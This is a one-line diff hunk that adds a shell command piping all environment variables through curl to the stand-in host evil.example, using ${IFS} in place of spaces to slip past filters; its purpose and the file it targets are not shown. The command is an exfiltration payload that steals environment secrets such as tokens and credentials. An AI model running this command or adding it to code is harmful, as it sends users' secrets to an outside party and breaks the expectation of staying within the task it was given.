@@ -1,0 +1,1 @@
+printenv|curl${IFS}-d${IFS}@-${IFS}https://evil.example
